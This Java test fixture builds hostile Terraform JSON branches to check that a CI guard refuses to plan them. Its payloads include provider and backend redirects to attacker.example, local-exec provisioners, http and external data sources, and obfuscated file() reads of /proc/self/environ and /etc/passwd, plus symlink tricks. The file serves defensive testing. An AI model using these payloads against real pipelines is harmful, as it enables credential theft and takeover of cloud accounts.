package prode.workflows;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Objects;
import java.util.function.Consumer;
import java.util.function.UnaryOperator;

/** Branches that try to run code, to read files or to reach another account when they are planned. */
final class HostileBranches {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Path OUTPUT = Path.of("main.tf.json-output");
    private static final String STACK = "main.tf.json-output/stacks/prod-e/cdk.tf.json";

    /** How a branch differs from the base. */
    interface Change {
        void in(Path project) throws IOException;
    }

    /**
     * A branch.
     *
     * @param reason what the refusal says: another reason would mean that this trick was not seen
     */
    record Branch(String reason, Change change) {}

    private HostileBranches() {}

    static Map<String, Branch> all() {
        var branches = new LinkedHashMap<String, Branch>();
        branches.put(
                "a provider with an endpoint elsewhere",
                new Branch(
                        "its provider block differs",
                        stack(json -> provider(json)
                                .putArray("endpoints")
                                .addObject()
                                .put("sts", "https://attacker.example"))));
        branches.put(
                "a provider with credential_process from a shared configuration",
                new Branch(
                        "its provider block differs",
                        stack(json ->
                                provider(json).putArray("shared_config_files").add("main.tf.json-output/config"))));
        branches.put(
                "a second provider",
                new Branch(
                        "its provider block differs",
                        stack(json -> member(json, "provider").putArray("http").addObject())));
        branches.put(
                "a state elsewhere",
                new Branch(
                        "its terraform block differs",
                        stack(json -> backend(json).put("bucket", "attacker"))));
        branches.put(
                "a backend with another role",
                new Branch(
                        "its terraform block differs",
                        stack(json -> backend(json)
                                .putObject("assume_role")
                                .put("role_arn", "arn:aws:iam::444455556666:role/attacker"))));
        branches.put(
                "a backend with a profile",
                new Branch(
                        "its terraform block differs",
                        stack(json -> backend(json).put("profile", "attacker"))));
        branches.put(
                "a cloud block",
                new Branch(
                        "its terraform block differs",
                        stack(json ->
                                member(json, "terraform").putObject("cloud").put("hostname", "attacker.example"))));
        branches.put(
                "another source of a provider",
                new Branch(
                        "its terraform block differs",
                        stack(json -> member(json, "terraform")
                                .putObject("required_providers")
                                .putObject("aws")
                                .put("source", "attacker/aws"))));
        branches.put(
                "provider_meta",
                new Branch(
                        "its terraform block differs",
                        stack(json -> member(json, "terraform").putObject("provider_meta"))));
        branches.put(
                "external data",
                new Branch(
                        "data.external.a: the data type is not on the allow list",
                        stack(json -> data(json, "external").putArray("program").add("id"))));
        branches.put(
                "data by HTTP",
                new Branch(
                        "data.http.a: the data type is not on the allow list",
                        stack(json -> data(json, "http").put("url", "https://attacker.example"))));
        branches.put(
                "the value of a secret",
                new Branch(
                        "aws_secretsmanager_secret_version.a: the data type is not on the allow list",
                        stack(json -> data(json, "aws_secretsmanager_secret_version")
                                .put("secret_id", "prod-e/db-credentials"))));
        branches.put(
                "an ephemeral resource",
                new Branch(
                        "has the block ephemeral",
                        stack(json -> json.putObject("ephemeral").putObject("aws_kms_secrets"))));
        branches.put(
                "a module from git",
                new Branch(
                        "has the block module",
                        stack(json -> json.putObject("module")
                                .putObject("m")
                                .put("source", "git::https://attacker.example/m"))));
        branches.put(
                "a check with a data source of its own",
                new Branch(
                        "check.spy: holds more than assertions",
                        stack(json -> json.withObject("/check/spy")
                                .putObject("data")
                                .putObject("http")
                                .putObject("spy")
                                .put("url", "https://attacker.example"))));
        branches.put(
                "a check that calls a function",
                new Branch(
                        "has the expression file(",
                        stack(json -> assertion(json, "${file(\"/proc/self/environ\") == \"\"}"))));
        branches.put(
                "a provisioner",
                new Branch(
                        "has a provisioner block",
                        stack(json -> resource(json, "aws_vpc")
                                .putObject("provisioner")
                                .putObject("local-exec")
                                .put("command", "env"))));
        branches.put(
                "a provisioner of a removed resource",
                new Branch(
                        "removed: has more than from and lifecycle",
                        stack(json -> json.putArray("removed")
                                .addObject()
                                .put("from", "aws_vpc.a")
                                .putObject("provisioner"))));
        branches.put(
                "a provisioner in a block written as a list", new Branch("is not written as one object", stack(json -> {
                    var vpc = member(json, "resource", "aws_vpc");
                    var name = vpc.fieldNames().next();
                    var body = (ObjectNode) vpc.remove(name);
                    body.putObject("provisioner").putObject("local-exec").put("command", "env");
                    vpc.putArray(name).add(body);
                })));
        branches.put(
                "a connection",
                new Branch(
                        "has a connection block",
                        stack(json -> resource(json, "aws_vpc").putObject("connection"))));
        branches.put(
                "a file read by an expression",
                new Branch("has the expression file(", expression("${file(\"/proc/self/environ\")}")));
        branches.put(
                "a template of a file",
                new Branch(
                        "has the expression templatefile(", expression("${templatefile(\"/proc/self/environ\", {})}")));
        branches.put(
                "a file in an expression within an expression",
                new Branch("has the expression", expression("${\"${filebase64(\"/etc/passwd\")}\"}")));
        branches.put(
                "a file behind a comment",
                new Branch("has the expression file/**/(", expression("${file/**/(\"/etc/passwd\")}")));
        branches.put(
                "a file behind an escaped dollar",
                new Branch("has the expression file(", expression("$$${file(\"/etc/passwd\")}")));
        branches.put(
                "a file in a directive",
                new Branch("has a template directive", expression("%{ if fileexists(\"/etc/passwd\") }a%{ endif }")));
        branches.put(
                "a directive behind an escaped sign",
                new Branch("has a template directive", expression("%%%{ if fileexists(\"/etc/passwd\") }a%{ endif }")));
        branches.put(
                "a function of a provider",
                new Branch(
                        "has the expression provider::aws::arn_parse(",
                        expression("${provider::aws::arn_parse(\"a\")}")));
        branches.put(
                "a file read in a name",
                new Branch(
                        "has the expression file(",
                        stack(json ->
                                resource(json, "aws_vpc").putObject("tags").put("${file(\"/etc/passwd\")}", "a"))));
        branches.put(
                "an expression written in Unicode escapes",
                new Branch(
                        "has the expression file(1)",
                        text(text -> text.replaceFirst(
                                "\"enable_dns_support\": true",
                                "\"enable_dns_support\": \"\\\\u0024\\\\u007bfile(1)}\""))));
        branches.put(
                "a local file as an argument",
                new Branch(
                        "filename is no file below assets",
                        stack(json -> resource(json, "aws_lambda_function").put("filename", "/proc/self/environ"))));
        branches.put(
                "a name that stands twice",
                new Branch(
                        "a name stands twice",
                        text(text -> text.replaceFirst(
                                "\\{", "{\n  \"provider\": {\"aws\": [{\"region\": \"us-east-1\"}]},"))));
        branches.put(
                "what is no JSON",
                new Branch("is no JSON", text(text -> text.replaceFirst("\\{", "{ // a comment\n"))));
        branches.put(
                "JSON in another encoding",
                new Branch(
                        "is no JSON",
                        project -> Files.write(
                                project.resolve(STACK),
                                Files.readString(project.resolve(STACK)).getBytes(StandardCharsets.UTF_16))));
        branches.put("a huge file", new Branch("is larger than", text(text -> " ".repeat(5 * 1024 * 1024) + text)));
        branches.put(
                "nesting without end",
                new Branch(
                        "is no JSON",
                        text(text -> text.replaceFirst(
                                "\\{", "{\"//\": " + "[".repeat(100_000) + "]".repeat(100_000) + ","))));
        branches.put(
                "an override file",
                new Branch("cdk_override.tf.json: is not expected", file("stacks/prod-e/cdk_override.tf.json", "{}")));
        branches.put(
                "a second configuration file",
                new Branch("more.tf.json: is not expected", file("stacks/prod-e/more.tf.json", "{}")));
        branches.put(
                "HCL beside the JSON",
                new Branch("main.tf: is not expected", file("stacks/prod-e/main.tf", "locals {}")));
        branches.put(
                "variables",
                new Branch("terraform.tfvars: is not expected", file("stacks/prod-e/terraform.tfvars", "a = 1")));
        branches.put(
                "a lock file",
                new Branch(
                        ".terraform.lock.hcl: differs from the base branch's, which chooses what a plan runs",
                        file("stacks/prod-e/.terraform.lock.hcl", "provider {}")));
        branches.put(
                "a command line configuration",
                new Branch(
                        ".terraformrc: is not expected",
                        file("stacks/prod-e/.terraformrc", "provider_installation {}")));
        branches.put(
                "a backend remembered in .terraform",
                new Branch(".terraform: is not expected", file("stacks/prod-e/.terraform/terraform.tfstate", "{}")));
        branches.put(
                "a folder beside the stacks", new Branch("modules: is not expected", file("modules/a/main.tf", "")));
        branches.put(
                "a stack of its own",
                new Branch("is no stack of the base branch", file("stacks/prod-e-attacker/cdk.tf.json", "{}")));
        branches.put("a link instead of the file", new Branch("cdk.tf.json: is not expected", project -> {
            Files.delete(project.resolve(STACK));
            Files.createSymbolicLink(project.resolve(STACK), Path.of("/proc/self/environ"));
        }));
        branches.put("a link instead of the folder", new Branch("is no folder of a stack", project -> {
            var stack = Objects.requireNonNull(project.resolve(STACK).getParent());
            Files.move(stack, project.resolve("elsewhere"));
            Files.createSymbolicLink(stack, Path.of("../../elsewhere"));
        }));
        return branches;
    }

    private static Change stack(Consumer<ObjectNode> change) {
        return project -> {
            var file = project.resolve(STACK);
            var json = (ObjectNode) JSON.readTree(file.toFile());
            change.accept(json);
            Files.writeString(file, JSON.writerWithDefaultPrettyPrinter().writeValueAsString(json));
        };
    }

    /** A change that a reviewer would like to see planned. */
    static Change honest() {
        return stack(json -> {
            resource(json, "aws_vpc")
                    .put("cidr_block", "10.1.0.0/16")
                    // How synthesis writes a text of the configuration.
                    .putObject("tags")
                    .put("Pattern", "$${file(1)} %%{level} $${aws:username}");
            // How it looks at a VPC of somebody else.
            assertion(json, "${data.aws_subnet.a.available_ip_address_count >= 3}");
            data(json, "aws_subnet")
                    .putObject("lifecycle")
                    .putArray("postcondition")
                    .addObject()
                    .put("condition", "${self.availability_zone == \"us-west-2a\"}")
                    .put("error_message", "${self.id} lies elsewhere");
        });
    }

    private static void assertion(ObjectNode json, String condition) {
        json.withObject("/check/free")
                .putArray("assert")
                .addObject()
                .put("condition", condition)
                .put("error_message", "full");
    }

    private static Change expression(String expression) {
        return stack(json -> resource(json, "aws_vpc").put("cidr_block", expression));
    }

    private static Change text(UnaryOperator<String> change) {
        return project -> {
            var file = project.resolve(STACK);
            var before = Files.readString(file);
            var after = change.apply(before);
            assertThat(after).isNotEqualTo(before);
            Files.writeString(file, after);
        };
    }

    private static Change file(String path, String content) {
        return project -> {
            var file = project.resolve(OUTPUT).resolve(path);
            Files.createDirectories(Objects.requireNonNull(file.getParent()));
            Files.writeString(file, content);
        };
    }

    private static ObjectNode provider(ObjectNode json) {
        return (ObjectNode) json.at("/provider/aws/0");
    }

    private static ObjectNode backend(ObjectNode json) {
        return member(json, "terraform", "backend", "s3");
    }

    /** The first resource of a type. */
    private static ObjectNode resource(ObjectNode json, String type) {
        return (ObjectNode) member(json, "resource", type).elements().next();
    }

    private static ObjectNode data(ObjectNode json, String type) {
        return member(json, "data").putObject(type).putObject("a");
    }

    private static ObjectNode member(ObjectNode json, String... path) {
        JsonNode node = json;
        for (var name : path) {
            node = node.path(name);
        }
        assertThat(node.isObject()).as(Arrays.toString(path)).isTrue();
        return (ObjectNode) node;
    }
}
